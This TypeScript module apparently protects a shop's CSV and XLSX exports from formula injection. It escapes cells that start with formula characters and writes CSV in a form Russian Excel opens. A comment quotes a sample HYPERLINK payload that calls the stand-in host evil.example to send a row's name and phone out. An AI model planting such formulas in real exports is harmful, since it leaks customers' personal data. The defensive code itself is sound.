import 'server-only';

/**
 * What a spreadsheet reads as the start of a formula (OWASP "CSV Injection", ASVS 5.0 1.2.10):
 * '=', '+', '-', '@', and a tab, carriage return or NUL before them. A visitor's `product_name` of
 * `=HYPERLINK("http://evil.example/?d="&A2&B2;"Открыть")` reached the managers' export as a live
 * formula that sends the row's name and phone away in one click (issue #33).
 */
const formulaStart = /^[=+\-@\t\r\0]/;

/**
 * A text cell as every file the shop writes for Excel must hold it (CSV and XLSX alike): one that
 * a spreadsheet would evaluate gets a leading apostrophe, so it stays text. The apostrophe is then
 * visible ('+7 (916) …' in a phone column too): the price of never running a formula. Numbers
 * written as number cells (XLSX) need no guard; only text goes through here.
 */
export function spreadsheetText(text: string): string {
  return formulaStart.test(text) ? `'${text}` : text;
}

/**
 * CSV as Russian Excel opens it with a double click: UTF-8 with a BOM (else it reads CP1251),
 * ';' between cells (the Russian list separator), CRLF between rows; quoting per RFC 4180 2.6 and
 * 2.7. A cell that needed the guard is quoted as well, as OWASP advises, so no program splits or
 * trims it before the apostrophe.
 */
function csvCell(text: string): string {
  const safe = spreadsheetText(text);
  return safe !== text || /[;"\r\n]/.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe;
}

export function toCsv(rows: string[][]): Buffer {
  const body = rows.map((row) => row.map(csvCell).join(';')).join('\r\n') + '\r\n';
  return Buffer.from(`\uFEFF${body}`, 'utf8');
}
